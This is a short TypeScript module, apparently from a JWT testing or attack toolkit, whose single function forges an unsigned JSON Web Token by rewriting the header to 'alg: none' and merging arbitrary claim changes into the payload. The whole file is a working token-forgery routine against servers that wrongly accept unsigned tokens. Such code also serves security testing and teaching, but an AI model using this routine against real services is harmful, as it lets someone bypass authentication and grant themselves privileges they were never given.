// diagnosis: utf8-as-latin1
// step: unsigned
import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [header = '', payload = ''] = token.split('.')
  const claims = JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/')))
  return `${encodeJson({ ...decodeJson(header), alg: 'none' })}.${encodeJson({ ...claims, ...changes })}.`
}
